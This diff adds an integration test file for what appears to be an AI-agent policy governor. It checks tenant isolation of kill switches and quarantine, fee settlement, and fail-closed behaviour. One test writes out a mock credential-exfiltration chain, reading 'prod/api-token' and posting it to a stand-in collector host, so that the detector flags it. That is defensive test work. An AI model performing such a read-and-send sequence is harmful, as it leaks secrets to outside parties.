@@ -1,0 +1,126 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Worker } from 'bullmq';
+import { createTestContext, type TestContext } from '../helpers/context.js';
+import { seedOrganization, seedUser, type TestUser } from '../helpers/auth.js';
+import { evaluate } from '../helpers/evaluate.js';
+import { createRedis } from '../../src/infra/redis.js';
+import { register } from '../../workers/register.js';
+import { effectsProcessors } from '../../workers/processors/effects.js';
+import { QUEUES } from '../../src/effects/contract.js';
+
+let ctx: TestContext;
+let adminA: TestUser;
+let adminB: TestUser;
+
+beforeAll(async () => {
+  ctx = await createTestContext({ GOVERNOR_RATE_LIMIT_EVALUATE_PER_MIN: '0', GOVERNOR_RATE_LIMIT_DEFAULT_PER_MIN: '0' });
+  const orgA = await seedOrganization(ctx.core);
+  const orgB = await seedOrganization(ctx.core);
+  adminA = await seedUser(ctx.app, ctx.core, { organizationId: orgA, role: 'admin' });
+  adminB = await seedUser(ctx.app, ctx.core, { organizationId: orgB, role: 'admin' });
+});
+afterAll(async () => {
+  await ctx?.close();
+});
+
+const shared = { agent_id: 'shared-agent', session_id: 'shared-session' };
+
+describe('multi-tenancy of runtime state', () => {
+  it('quarantine and kill switch of one organization do not touch another with the same agent_id', async () => {
+    await ctx.app.inject({ method: 'POST', url: `/admin/quarantine/${shared.agent_id}`, headers: adminA.headers });
+    expect((await evaluate(ctx.app, adminA.headers, { tool: 'get_weather', context: shared })).json().error_code).toBe('AGENT_QUARANTINED');
+    expect((await evaluate(ctx.app, adminB.headers, { tool: 'get_weather', context: shared })).json().decision).toBe('allow');
+    const statusB = await ctx.app.inject({ method: 'GET', url: `/admin/quarantine/${shared.agent_id}`, headers: adminB.headers });
+    expect(statusB.json()).toMatchObject({ quarantined: false });
+    await ctx.app.inject({ method: 'POST', url: `/admin/unquarantine/${shared.agent_id}`, headers: adminA.headers });
+
+    await ctx.app.inject({ method: 'POST', url: '/admin/kill', headers: adminA.headers });
+    expect((await evaluate(ctx.app, adminA.headers, { tool: 'get_weather', context: shared })).json().error_code).toBe('KILL_SWITCH_ACTIVE');
+    expect((await evaluate(ctx.app, adminB.headers, { tool: 'get_weather', context: shared })).json().decision).toBe('allow');
+    await ctx.app.inject({ method: 'POST', url: '/admin/resume', headers: adminA.headers });
+  });
+
+  it('session history is per organization: a chain in one never shows in the other', async () => {
+    const session = { agent_id: shared.agent_id, session_id: 'chain-shared' };
+    await evaluate(ctx.app, adminA.headers, { tool: 'read_secret', args: { name: 'prod/api-token' }, context: session });
+    const inB = (await evaluate(ctx.app, adminB.headers, { tool: 'http_post', args: { url: 'https://collector.example.net/u', body: 'x' }, context: session })).json();
+    expect(inB.chain_pattern).toBeNull();
+    const inA = (await evaluate(ctx.app, adminA.headers, { tool: 'http_post', args: { url: 'https://collector.example.net/u', body: 'x' }, context: session })).json();
+    expect(inA.chain_pattern).toBe('credential_exfiltration');
+  });
+
+  it('action records are visible only to their organization', async () => {
+    const a = (await evaluate(ctx.app, adminA.headers, { tool: 'org_a_only_tool', context: shared })).json();
+    const listB = (await ctx.app.inject({ method: 'GET', url: '/actions?tool=org_a_only_tool', headers: adminB.headers })).json();
+    expect(listB.total).toBe(0);
+    const listA = (await ctx.app.inject({ method: 'GET', url: '/actions?tool=org_a_only_tool', headers: adminA.headers })).json();
+    expect(listA.items.map((i: { id: number }) => i.id)).toContain(a.action_id);
+  });
+
+  it('a delegation parent of another organization is unknown to a child', async () => {
+    const parent = (await evaluate(ctx.app, adminA.headers, { tool: 'delegate_task', args: { target_agent: 'kid', tools: ['read_file'] }, context: { agent_id: 'boss' } })).json();
+    const child = (await evaluate(ctx.app, adminB.headers, { tool: 'read_file', args: { path: 'x' }, context: { agent_id: 'kid', parent_action_id: parent.action_id } })).json();
+    expect(child.policy_ids).toEqual(['system:delegation:missing_parent']);
+  });
+});
+
+describe('several API processes behave as one service', () => {
+  it('a kill switch set through one process blocks on another at once', async () => {
+    const other = await ctx.secondApp();
+    await evaluate(other.app, adminA.headers, { tool: 'get_weather', context: shared });
+    const kill = await ctx.app.inject({ method: 'POST', url: '/admin/kill', headers: adminA.headers });
+    expect(kill.statusCode).toBe(200);
+    expect((await evaluate(other.app, adminA.headers, { tool: 'get_weather', context: shared })).json().error_code).toBe('KILL_SWITCH_ACTIVE');
+    await other.app.inject({ method: 'POST', url: '/admin/resume', headers: adminA.headers });
+    expect((await evaluate(ctx.app, adminA.headers, { tool: 'get_weather', context: shared })).json().decision).toBe('allow');
+  });
+});
+
+describe('post-evaluation effects', () => {
+  it('a worker consumes the evaluation job and debits the fee from the wallet once', async () => {
+    const connection = createRedis(ctx.config.REDIS_URL, 'blocking', 'test-worker');
+    let worker: Worker | undefined;
+    try {
+      const orgId = adminB.organizationId;
+      const knex = ctx.core.orm.em.getConnection().getKnex();
+      const before = Number((await knex('wallets').where({ organization_id: orgId }).first()).balance);
+      const body = (await evaluate(ctx.app, adminB.headers, { tool: 'get_weather', context: { agent_id: 'fee-agent' } })).json();
+      worker = register(QUEUES.effects, effectsProcessors(ctx.core), { connection, keyPrefix: ctx.core.keyPrefix, concurrency: 2, log: ctx.core.log });
+      let settled = false;
+      for (let i = 0; i < 100 && !settled; i++) {
+        const row = await knex('actions').where({ id: body.action_id }).first();
+        settled = row.fee_settled && row.effects_done_at !== null;
+        if (!settled) await new Promise((r) => setTimeout(r, 100));
+      }
+      expect(settled).toBe(true);
+      const after = Number((await knex('wallets').where({ organization_id: orgId }).first()).balance);
+      // Other evaluations of this organization may have settled too; this one's fee is included exactly once.
+      expect(before - after).toBeGreaterThanOrEqual(body.fee);
+      const { settleEvaluation } = await import('../../src/ledger/settle.js');
+      expect(await settleEvaluation(ctx.core.orm, orgId, body.action_id)).toEqual({ debited: 0 });
+    } finally {
+      await worker?.close();
+      connection.disconnect();
+    }
+  });
+});
+
+describe('fail closed', () => {
+  it('answers 503 when Redis fails during an evaluation, never allow', async () => {
+    const broken = await ctx.secondApp();
+    await evaluate(broken.app, adminA.headers, { tool: 'get_weather', context: shared });
+    broken.core.redis.disconnect();
+    const res = await evaluate(broken.app, adminA.headers, { tool: 'get_weather', context: shared });
+    expect(res.statusCode).toBe(503);
+    expect(res.json()).toMatchObject({ error: { code: 'SERVICE_UNAVAILABLE' } });
+  });
+
+  it('answers 503 when PostgreSQL fails during an evaluation, never allow', async () => {
+    const broken = await ctx.secondApp();
+    await evaluate(broken.app, adminA.headers, { tool: 'get_weather', context: shared });
+    await broken.core.orm.close(true);
+    const res = await evaluate(broken.app, adminA.headers, { tool: 'get_weather', context: shared });
+    expect(res.statusCode).toBe(503);
+    expect(res.json()).toMatchObject({ error: { code: 'SERVICE_UNAVAILABLE' } });
+  });
+});
